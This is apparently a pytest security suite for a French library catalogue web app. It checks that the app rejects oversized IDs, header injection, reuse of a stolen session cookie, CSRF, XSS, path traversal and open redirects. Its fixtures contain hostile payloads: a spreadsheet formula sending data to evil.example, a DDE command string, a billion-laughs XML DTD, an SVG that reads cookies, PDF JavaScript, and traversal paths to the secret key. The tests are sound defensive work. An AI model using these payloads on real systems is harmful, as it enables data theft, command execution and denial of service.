"""The hostile probe of the site, kept as tests so that what it found stays fixed and what
held keeps holding: oversized numbers, header injection, session theft, formula injection,
control characters, hostile uploads and XML, plus XSS, path traversal, open redirects, CSRF
and the security headers. Every route is enumerated from the application itself."""

from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from click.testing import CliRunner
from werkzeug.routing.converters import NumberConverter

from library import Author, Catalogue, Copy, Record, Support
from library.formats.holdings_csv import read_holdings
from library.loans import Loans
from webapp.cli import cli
from webapp.messages import row_message

from .actions import LOGIN, PASSWORD, csrf, login, paper_record, post, text

HUGE = 2**63  # one past SQLite's largest integer: Python passes it, sqlite3 overflows
HUGE_TEXT = str(HUGE)


# -- numbers out of SQLite's range ------------------------------------------------------------


def _numeric_arguments(rule) -> set[str]:  # type: ignore[no-untyped-def]
    from webapp.params import IdConverter

    return {
        name
        for name, converter in rule._converters.items()
        if isinstance(converter, NumberConverter | IdConverter)
    }


def test_no_route_takes_an_unbounded_integer(app):
    """Every integer in a path goes through the one converter that knows SQLite's range."""
    plain = [r.rule for r in app.url_map.iter_rules() if re.search(r"<int[:(]", r.rule)]
    assert plain == []
    with_ids = [r.rule for r in app.url_map.iter_rules() if "<id:" in r.rule]
    assert len(with_ids) >= 15, "the routes with an id were not found"


def test_an_id_past_sqlites_range_is_a_404_on_every_route(app, logged_in):
    """GIVEN a documentalist's session, WHEN every route with a number in its path is called
    with 2**63 (GET and POST, with the CSRF token), THEN each answers 404, never 500."""
    paper_record(app, "Notice témoin", "CRPV0001")
    with Catalogue.in_instance(app.config["INSTANCE"]) as cat:
        Loans(cat).add_borrower("Paul Témoin")
    token = csrf(logged_in)
    checked = 0
    for rule in app.url_map.iter_rules():
        numeric = _numeric_arguments(rule)
        if not numeric:
            continue
        values = {
            name: HUGE if name in numeric else "jeton-inexistant-0123456789"
            for name in rule.arguments
        }
        url = rule.build(values, append_unknown=False)[1]
        assert HUGE_TEXT in url
        if "GET" in rule.methods:
            assert logged_in.get(url).status_code == 404, url
            checked += 1
        if "POST" in rule.methods:
            form = {"csrf_token": token, "slug": "sante", "action": "add", "motif": "x"}
            assert logged_in.post(url, data=form).status_code == 404, url
            checked += 1
    assert checked >= 20


def test_huge_page_numbers_and_ids_in_parameters_are_clamped_or_ignored(app, logged_in):
    record_id = paper_record(app, "Notice témoin", "CRPV0001")
    for url in (
        f"/admin/journal?page={HUGE}",
        f"/admin/journal?n={HUGE}",
        f"/admin/journal?page=-{HUGE}",
        f"/admin/notices/?page={HUGE}",
        f"/admin/notices/?q={HUGE}",
        f"/admin/notices/doublons?titre=Notice&annee={HUGE}&sauf={HUGE}",
        f"/?page={HUGE}",
        f"/api/records?page={HUGE}&per_page={HUGE}",
        f"/flux/nouveautes.atom?page={HUGE}",
        f"/export?format=json&ids={HUGE}",
        f"/panier?ajouter={HUGE}",
    ):
        response = logged_in.get(url)
        assert response.status_code < 500, url
    assert logged_in.get(f"/admin/journal?page={HUGE}").status_code == 200
    assert logged_in.get(f"/admin/notices/?page={HUGE}").status_code == 200
    linked = post(logged_in, f"/admin/notices/{record_id}/oeuvre", {"autre": HUGE_TEXT})
    assert linked.status_code == 302
    assert "Indiquez le numéro" in text(logged_in.get(linked.location))


# -- header injection in the login's redirect -------------------------------------------------


def test_a_line_break_in_the_login_target_is_refused(client):
    for target in ("/admin/\r\nX-Injected: 1", "/admin/%0d%0aX-Injected:%201", "/admin/\nX: 1"):
        response = post(
            client,
            "/admin/connexion",
            {"identifiant": LOGIN, "mot_de_passe": PASSWORD, "suivant": target},
        )
        assert response.status_code == 302, target
        assert response.location == "/admin/"
        assert "X-Injected" not in response.headers
        post(client, "/admin/deconnexion")
    page = client.get("/admin/connexion?suivant=/admin/%0d%0aX-Injected:%201")
    assert page.status_code == 200 and "X-Injected" not in text(page)
    query = client.get(
        "/admin/connexion?suivant=/admin/%0d%0aX-Injected:%201", follow_redirects=False
    )
    assert "X-Injected" not in query.headers


# -- sessions end on the server ---------------------------------------------------------------


def _copy_of(client, app):  # type: ignore[no-untyped-def]
    """Another browser holding a copy of the client's session cookie."""
    cookie = client.get_cookie("fonds_session")
    assert cookie is not None
    thief = app.test_client()
    thief.set_cookie("fonds_session", cookie.value)
    return thief


def test_a_cookie_copied_before_logout_opens_nothing_after_it(app, logged_in):
    thief = _copy_of(logged_in, app)
    assert thief.get("/admin/").status_code == 200  # the copy works while the session lives
    token = csrf(thief)
    assert post(logged_in, "/admin/deconnexion").status_code == 302
    assert thief.get("/admin/").status_code == 302
    created = thief.post("/admin/emprunteurs/nouveau", data={"csrf_token": token, "name": "X"})
    assert created.status_code == 403
    with Catalogue.in_instance(app.config["INSTANCE"]) as cat:
        assert Loans(cat).borrowers() == []


def test_logging_out_everywhere_ends_the_other_browsers_sessions(app, logged_in):
    elsewhere = app.test_client()
    assert login(elsewhere).status_code == 302
    page = text(logged_in.get("/admin/deconnexion"))
    assert "Se déconnecter de tous les appareils" in page
    assert 'action="/admin/deconnexion-partout"' in page
    refused = logged_in.post("/admin/deconnexion-partout")  # no CSRF token
    assert refused.status_code == 400 and elsewhere.get("/admin/").status_code == 200
    done = post(logged_in, "/admin/deconnexion-partout")
    assert done.status_code == 302 and done.location == "/admin/connexion"
    assert elsewhere.get("/admin/").status_code == 302
    assert logged_in.get("/admin/").status_code == 302


def test_disabling_an_account_ends_its_sessions_at_once(app, logged_in):
    from library.users import Users

    thief = _copy_of(logged_in, app)
    with Catalogue.in_instance(app.config["INSTANCE"]) as cat:
        users = Users(cat)
        users.set_active(LOGIN, False)
        assert users.session_count(users.get(LOGIN).id) == 0
        users.set_active(LOGIN, True)  # enabled again: the old sessions stay ended
    assert thief.get("/admin/").status_code == 302
    assert logged_in.get("/admin/").status_code == 302


def test_the_current_password_check_is_throttled_like_the_login(app, logged_in):
    wrong = {"actuel": "pas le bon", "nouveau": "x" * 12, "confirmation": "x" * 12}
    for _ in range(5):
        assert post(logged_in, "/admin/mot-de-passe", wrong).status_code == 400
    right = {**wrong, "actuel": PASSWORD}
    blocked = post(logged_in, "/admin/mot-de-passe", right)
    assert blocked.status_code == 429 and "Trop de tentatives" in text(blocked)
    assert int(blocked.headers["Retry-After"]) > 60
    assert login(app.test_client()).status_code == 429  # one counter for both doors
    assert login(app.test_client(), password="x" * 12).status_code == 429


# -- formula injection in every CSV -----------------------------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
FORMULA_AUTHOR = "+cmd|' /C calc'!A0"
FORMULA_PUBLISHER = "@SUM(1+1)"


def _hostile_record(app) -> int:  # type: ignore[no-untyped-def]
    with Catalogue.in_instance(app.config["INSTANCE"]) as cat:
        record = cat.add(
            Record(
                title=FORMULA_TITLE,
                authors=(Author(FORMULA_AUTHOR),),
                publisher=FORMULA_PUBLISHER,
                public_note="-1+1",  # the site exports carry the public note only
                year=2013,
                support=Support.PAPIER,
                copies=(Copy("=CRPV0001", "361 MED", "Salle"),),
            )
        )
    assert record.id is not None
    return record.id


def _cells(data: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def _no_formula(rows: list[list[str]]) -> None:
    for cells in rows:
        for cell in cells:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell


@pytest.mark.parametrize(("name", "delimiter"), [("csv", ";"), ("csv-comma", ",")])
def test_site_exports_neutralise_formulas_and_import_back_to_the_original(app, name, delimiter):
    _hostile_record(app)
    response = app.test_client().get(f"/export?format={name}")
    assert response.status_code == 200
    rows = _cells(response.data, delimiter)
    _no_formula(rows)
    assert "'" + FORMULA_TITLE in rows[1] and "'" + FORMULA_PUBLISHER in rows[1]
    parsed = read_holdings(response.data)
    assert not parsed.errors
    ((_, record),) = parsed.rows
    assert record.title == FORMULA_TITLE
    assert [a.name for a in record.authors] == [FORMULA_AUTHOR.replace("|", "/")]  # "|" separates
    assert record.publisher == FORMULA_PUBLISHER and record.public_note == "-1+1"
    assert [c.barcode for c in record.copies] == ["=CRPV0001"]


def test_the_cli_export_neutralises_formulas_too(app, tmp_path):
    _hostile_record(app)
    out = tmp_path / "export.csv"
    result = CliRunner().invoke(
        cli,
        ["--instance", str(app.config["INSTANCE"]), "export", "--format", "csv", "-o", str(out)],
        catch_exceptions=False,
    )
    assert result.exit_code == 0, result.output
    rows = _cells(out.read_bytes(), ";")
    _no_formula(rows)
    assert read_holdings(out.read_bytes()).rows[0][1].title == FORMULA_TITLE


def test_the_overdue_list_neutralises_formulas(app, logged_in):
    _hostile_record(app)
    with Catalogue.in_instance(app.config["INSTANCE"]) as cat:
        desk = Loans(cat)
        borrower = desk.add_borrower("=Paul Témoin", phone="+596 696 00 00 00")
        desk.check_out("=CRPV0001", borrower.id, today=date(2013, 1, 2))
    response = logged_in.get("/admin/prets/retards.csv")
    rows = _cells(response.data, ";")
    assert len(rows) == 2
    _no_formula(rows)
    assert rows[1][:2] == ["'=CRPV0001", "'" + FORMULA_TITLE]


# -- control characters -----------------------------------------------------------------------


def test_the_docx_bibliography_survives_a_title_with_control_characters(app, tmp_path):
    """A title imported from RIS with a NUL and a vertical tab used to break the DOCX of the
    whole fund (python-docx refuses what XML forbids)."""
    import docx

    from library.formats.ris import read

    ris = "TY  - BOOK\r\nTI  - Guide\x0bde la\x00 médiation\r\nPY  - 2013\r\nER  - \r\n"
    parsed = read(ris.encode("utf-8"), source="probe.ris")
    with Catalogue.in_instance(app.config["INSTANCE"]) as cat:
        for _, record in parsed.rows:
            cat.add(record)
        cat.add(Record(title="Rapport\x0c annuel\x1b", year=2012, support=Support.PAPIER))
    response = app.test_client().get("/bibliographie?format=docx")
    assert response.status_code == 200
    document = docx.Document(io.BytesIO(response.data))
    body = "\n".join(p.text for p in document.paragraphs)
    assert "médiation" in body and "Rapport" in body
    for url in (
        "/export?format=marcxml",
        "/export?format=dc",
        "/oai?verb=ListRecords&metadataPrefix=oai_dc",
    ):
        assert app.test_client().get(url).status_code == 200, url


# -- XML with a DTD: refused wherever the project reads XML ------------------------------------


def _entity(n: int) -> str:
    reference = f"&lol{n - 1};" if n > 1 else "&lol;"
    return f'<!ENTITY lol{n} "{reference * 10}">'


LAUGHS_DTD = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(map(_entity, range(1, 10))) + "]>"


def _laughs(root: str) -> bytes:
    return f'<?xml version="1.0"?>\n{LAUGHS_DTD}\n{root}'.encode()


def _with_dtd(path, member: str):  # type: ignore[no-untyped-def]
    """The archive with a billion-laughs DTD put in front of one XML part."""
    import zipfile

    from corpus.files import write_zip

    with zipfile.ZipFile(path) as archive:
        parts = [(name, archive.read(name)) for name in archive.namelist()]
    for number, (name, data) in enumerate(parts):
        if name == member:
            declaration, _, rest = data.partition(b"?>")
            parts[number] = (name, declaration + b"?>" + LAUGHS_DTD.encode() + rest)
    write_zip(path, parts, stored={"mimetype"})
    return path


def test_a_skos_file_with_a_dtd_is_refused_at_once(tmp_path):
    """`fonds vocab import` of a billion-laughs RDF/XML spun for minutes."""
    rdf = tmp_path / "theso.rdf"
    rdf.write_bytes(
        _laughs(
            '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"'
            ' xmlns:skos="http://www.w3.org/2004/02/skos/core#">'
            '<skos:Concept rdf:about="urn:x"><skos:prefLabel>&lol9;</skos:prefLabel>'
            "</skos:Concept></rdf:RDF>"
        )
    )
    instance = tmp_path / "instance"
    for args in (["vocab", "import", str(rdf)], ["vocab", "check", str(rdf)]):
        result = CliRunner().invoke(cli, ["--instance", str(instance), *args])
        assert result.exit_code != 0, result.output
        assert "DOCTYPE ou ENTITY refusée" in result.output


@pytest.mark.parametrize("name", ["marcxml", "oai_dc"])
def test_imported_xml_with_a_dtd_is_refused(name):
    from library.formats.readers import READERS

    root = (
        '<collection xmlns="http://www.loc.gov/MARC21/slim"><record><leader>&lol9;</leader>'
        "</record></collection>"
        if name == "marcxml"
        else '<oai_dc:dc xmlns:oai_dc="http://www.openarchives.org/OAI/2.0/oai_dc/"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&lol9;</dc:title></oai_dc:dc>'
    )
    parsed = READERS[name](_laughs(root), source="probe.xml")
    assert not parsed.rows
    assert "DOCTYPE ou ENTITY refusée" in row_message(parsed.errors[0])


@pytest.mark.parametrize(
    ("maker", "member"),
    [
        ("make_odt", "content.xml"),
        ("make_epub", "META-INF/container.xml"),
        ("make_docx", "word/document.xml"),
    ],
)
def test_documents_whose_xml_parts_declare_a_dtd_are_refused(tmp_path, maker, member):
    from corpus import files
    from indexer.extractors import ExtractionError, default_registry

    suffix = {"make_odt": ".odt", "make_epub": ".epub", "make_docx": ".docx"}[maker]
    path = getattr(files, maker)(tmp_path / f"bombe{suffix}")
    assert default_registry().extract(path).text  # the file as made is fine
    _with_dtd(path, member)
    with pytest.raises(ExtractionError):
        default_registry().extract(path)


# -- hostile uploads --------------------------------------------------------------------------

SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- logo -->\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
    b"<script>fetch('/admin/')</script><text>Rapport annuel du CUCS</text></svg>"
)


def _upload(client, name: str, content: bytes):  # type: ignore[no-untyped-def]
    data = {"fichiers": [(io.BytesIO(content), name)]}
    return post(client, "/admin/depot/", data, content_type="multipart/form-data")


@pytest.mark.parametrize("name", ["logo.svg", "rapport.txt", "page.html"])
def test_an_svg_is_refused_whatever_its_name(app, logged_in, name):
    response = _upload(logged_in, name, SVG_WITH_SCRIPT)
    assert response.status_code == 422
    assert "image SVG non acceptée" in text(response)
    with Catalogue.in_instance(app.config["INSTANCE"]) as cat:
        assert cat.count(include_deleted=True) == 0
    staging = app.config["INSTANCE"] / "staging"
    assert not staging.exists() or not any(staging.iterdir())


def test_an_svg_found_in_a_folder_is_not_indexed(tmp_path):
    from indexer.extractors import UnsupportedFormat, default_registry
    from webapp.messages import reason_text

    path = tmp_path / "logo.svg"
    path.write_bytes(SVG_WITH_SCRIPT)
    with pytest.raises(UnsupportedFormat) as caught:
        default_registry().extract(path)
    assert reason_text(caught.value.reason).startswith("image SVG non acceptée")


def test_a_pdf_is_downloaded_unless_the_viewer_is_asked_for(app, logged_in, tmp_path):
    """A PDF may carry /OpenAction JavaScript: it is a download (attachment) by default, shown
    by the browser's viewer only on the explicit « Lire en ligne » link (?lire=1), and always
    under a CSP that allows nothing (no script, no frame, no form)."""
    from corpus.files import make_pdf

    pdf = make_pdf(tmp_path / "rapport.pdf", "Rapport du CUCS " * 50, title="Rapport du CUCS")
    data = pdf.read_bytes().replace(
        b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>", 1
    )
    confirm = _upload(logged_in, "rapport.pdf", data)
    assert confirm.status_code == 302, text(confirm)
    saved = post(logged_in, confirm.location, {"title": "Rapport du CUCS", "language": "fr"})
    assert saved.status_code == 302, text(saved)
    record_id = int(re.search(r"/admin/notices/(\d+)", saved.location).group(1))  # type: ignore[union-attr]
    page = text(app.test_client().get(f"/notice/{record_id}"))
    assert f'href="/notice/{record_id}/fichier?lire=1"' in page
    plain = app.test_client().get(f"/notice/{record_id}/fichier")
    shown = app.test_client().get(f"/notice/{record_id}/fichier?lire=1")
    assert plain.headers["Content-Disposition"].startswith("attachment;")
    assert shown.headers["Content-Disposition"].startswith("inline;")
    for response in (plain, shown):
        assert response.headers["Content-Type"] == "application/pdf"
        assert "default-src 'none'" in response.headers["Content-Security-Policy"]
        assert response.headers["X-Content-Type-Options"] == "nosniff"
        response.close()  # the file is streamed


def test_the_cli_refuses_a_number_past_sqlites_range_in_one_line(app):
    instance = str(app.config["INSTANCE"])
    for args in (
        ["show", HUGE_TEXT],
        ["borrower", "show", HUGE_TEXT],
        ["borrower", "suspend", HUGE_TEXT],
    ):
        result = CliRunner().invoke(cli, ["--instance", instance, *args])
        assert result.exit_code == 2, (args, result.output)
        assert "numéro invalide" in result.output and "Traceback" not in result.output


# -- what held: XSS, path traversal, open redirects, CSRF, headers -----------------------------

XSS = "<script>alert(1)</script><img src=x onerror=alert(2)>"


def test_a_hostile_title_or_query_is_escaped_everywhere(app, logged_in):
    record_id = paper_record(app, f"Rapport {XSS}", "CRPV0001", abstract=XSS)
    client = app.test_client()
    pages = [
        client.get(f"/notice/{record_id}"),
        client.get("/?q=" + XSS),
        client.get("/?q=Rapport"),
        client.get("/bibliographie"),
        client.get("/flux/nouveautes.atom"),
        client.get("/nouveautes"),
        logged_in.get(f"/admin/notices/{record_id}"),
        logged_in.get("/admin/notices/?q=" + XSS),
        logged_in.get("/admin/"),
    ]
    for response in pages:
        body = text(response)
        assert response.status_code == 200, response.request.path
        assert "<script>alert" not in body and "<img src=x" not in body, response.request.path
    assert "&lt;script&gt;alert(1)" in text(pages[0])
    api = client.get(f"/api/records/{record_id}")
    assert api.mimetype == "application/json" and api.json["title"] == f"Rapport {XSS}"


def test_no_path_leads_out_of_the_site(app, logged_in):
    from library import SourceFile

    secret = (app.config["INSTANCE"] / "secret_key").read_text()
    with Catalogue.in_instance(app.config["INSTANCE"]) as cat:
        escaping = SourceFile("e" * 64, "clé.txt", "text/plain", 10, "../secret_key")
        cat.add_file(escaping)
        record = cat.add(Record(title="Fichier piégé", file=escaping))
    for url in (
        f"/notice/{record.id}/fichier",
        f"/notice/{record.id}/fichier?lire=1",
        "/static/../secret_key",
        "/static/..%2f..%2fsecret_key",
        "/static/%2e%2e/%2e%2e/secret_key",
        "/admin/depot/..%2f..%2fsecret_key",
        "/calendrier/..%2fsecret_key.ics",
    ):
        response = logged_in.get(url)
        assert response.status_code in (404, 400), url
        assert secret not in text(response), url


def test_no_redirect_leaves_the_site_or_carries_a_header(logged_in):
    for target in (
        "https://evil.example/",
        "//evil.example/",
        "/\\evil.example",
        "/\r\nX-Injected: 1",
    ):
        basket = logged_in.get("/panier", query_string={"ajouter": "1", "retour": target})
        assert basket.status_code == 303 and basket.location == "/panier", target
        assert "X-Injected" not in basket.headers
        back = post(logged_in, "/admin/prets/retour", {"code_barres": "X", "retour": target})
        assert not back.location.startswith(("http", "//")), target
        assert "X-Injected" not in back.headers


def test_no_write_goes_through_without_the_sessions_csrf_token(app, logged_in):
    other = app.test_client()
    assert login(other).status_code == 302
    stolen = csrf(other)  # a valid token, of another session
    for data, headers in (
        ({"name": "Forgé"}, {}),
        ({"name": "Forgé", "csrf_token": ""}, {}),
        ({"name": "Forgé", "csrf_token": stolen}, {}),
        ({"name": "Forgé"}, {"X-CSRF-Token": stolen}),
    ):
        response = logged_in.post("/admin/emprunteurs/nouveau", data=data, headers=headers)
        assert response.status_code == 400 and "Formulaire expiré" in text(response)
    assert (
        logged_in.get("/admin/emprunteurs/nouveau?name=Forgé").status_code == 200
    )  # GET writes nothing
    with Catalogue.in_instance(app.config["INSTANCE"]) as cat:
        assert Loans(cat).borrowers() == []


def test_every_kind_of_page_carries_the_security_headers(app, logged_in):
    record_id = paper_record(app, "Notice témoin", "CRPV0001")
    for url in (
        "/",
        "/?q=ville",
        f"/notice/{record_id}",
        "/api/records",
        "/nulle-part",
        "/admin/",
    ):
        response = logged_in.get(url)
        headers = response.headers
        assert "default-src 'self'" in headers["Content-Security-Policy"], url
        assert "script-src 'self'" in headers["Content-Security-Policy"], url
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"], url
        assert headers["X-Content-Type-Options"] == "nosniff", url
        assert headers["X-Frame-Options"] == "DENY", url
        assert headers["Referrer-Policy"] == "same-origin", url
    https = app.test_client().get("/", base_url="https://localhost")
    assert https.headers["Strict-Transport-Security"].startswith("max-age=")
